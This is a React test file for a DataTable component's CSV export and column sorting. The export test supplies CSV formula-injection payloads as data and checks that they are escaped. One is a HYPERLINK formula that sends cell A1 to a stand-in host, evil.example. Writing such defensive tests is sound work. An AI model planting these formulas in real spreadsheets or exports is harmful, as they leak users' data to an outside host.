import { fireEvent, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { renderWithProviders } from '../testing/render';
import { type Column, DataTable } from './data-table';

type Row = { zone: string; impressions: number; cost: string; change: number };
const columns: Column<Row>[] = [
  { key: 'zone', header: 'Zone', value: (r) => r.zone },
  { key: 'impressions', header: 'Impressions', value: (r) => r.impressions },
  { key: 'cost', header: 'Cost', value: (r) => r.cost },
  { key: 'change', header: 'Change', value: (r) => r.change },
];

/** The text of the file the Export CSV button hands to the browser. */
async function exportedCsv(): Promise<string> {
  let blob: Blob | undefined;
  vi.spyOn(URL, 'createObjectURL').mockImplementation((b) => {
    blob = b as Blob;
    return 'blob:export';
  });
  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {});
  const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
  fireEvent.click(screen.getByRole('button', { name: 'Export CSV' }));
  expect(click).toHaveBeenCalledTimes(1);
  if (!blob) throw new Error('no file exported');
  return blob.text();
}

afterEach(() => {
  vi.restoreAllMocks();
});

describe('DataTable CSV export', () => {
  it("exports a publisher's hostile zone alias as text, never as a formula", async () => {
    const rows: Row[] = [
      {
        zone: '=HYPERLINK("http://evil.example/?leak="&A1,"Bonus") · pub.example',
        impressions: 1200,
        cost: '€1,234.50',
        change: -1.5,
      },
      { zone: '"=1+1" · pub.example', impressions: 3, cost: '€0.01', change: 2 },
      { zone: '@SUM(A1) · pub.example', impressions: 4, cost: '€0.02', change: 0 },
    ];
    renderWithProviders(
      <DataTable label="Report" columns={columns} rows={rows} rowKey={(r) => r.zone} csvFileName="report.csv" />,
    );
    const csv = await exportedCsv();
    expect(csv.split('\r\n')).toEqual([
      'Zone,Impressions,Cost,Change',
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1""Bonus"") · pub.example",1200,1234.50,-1.5`,
      `"""=1+1"" · pub.example",3,0.01,2`,
      `'@SUM(A1) · pub.example,4,0.02,0`,
    ]);
  });
});

describe('DataTable sorting by a column that only says sortable', () => {
  type Site = { domain: string; visits: number; status: 'Active' | 'Paused' };
  const sites: Site[] = [
    { domain: 'b.example', visits: 100, status: 'Paused' },
    { domain: 'a.example', visits: 9, status: 'Active' },
    { domain: 'c.example', visits: 20, status: 'Active' },
  ];
  // No `value`: the rendered cell is a link, the sort reads the field the key names.
  const siteColumns: Column<Site>[] = [
    { key: 'domain', header: 'Domain', sortable: true, render: (s) => <a href={`/${s.domain}`}>{s.domain}</a> },
    { key: 'visits', header: 'Visits', sortable: true, align: 'right' },
    { key: 'status', header: 'Status', render: (s) => <span>{s.status}</span> },
  ];
  const firstColumn = () =>
    screen
      .getAllByRole('row')
      .slice(1)
      .map((row) => within(row).getAllByRole('cell')[0]?.textContent);

  it('sorts the visits as numbers and the domains as text, both ways', async () => {
    renderWithProviders(<DataTable label="Sites" columns={siteColumns} rows={sites} rowKey={(s) => s.domain} />);
    await userEvent.click(screen.getByRole('button', { name: 'Visits' }));
    expect(screen.getByRole('columnheader', { name: 'Visits' })).toHaveAttribute('aria-sort', 'ascending');
    expect(firstColumn()).toEqual(['a.example', 'c.example', 'b.example']);
    await userEvent.click(screen.getByRole('button', { name: 'Visits' }));
    expect(firstColumn()).toEqual(['b.example', 'c.example', 'a.example']);
    await userEvent.click(screen.getByRole('button', { name: 'Domain' }));
    expect(firstColumn()).toEqual(['a.example', 'b.example', 'c.example']);
  });

  it('offers no sort on a column that says nothing', () => {
    renderWithProviders(<DataTable label="Sites" columns={siteColumns} rows={sites} rowKey={(s) => s.domain} />);
    expect(screen.queryByRole('button', { name: 'Status' })).toBeNull();
    expect(screen.getByRole('columnheader', { name: 'Status' })).not.toHaveAttribute('aria-sort');
  });
});
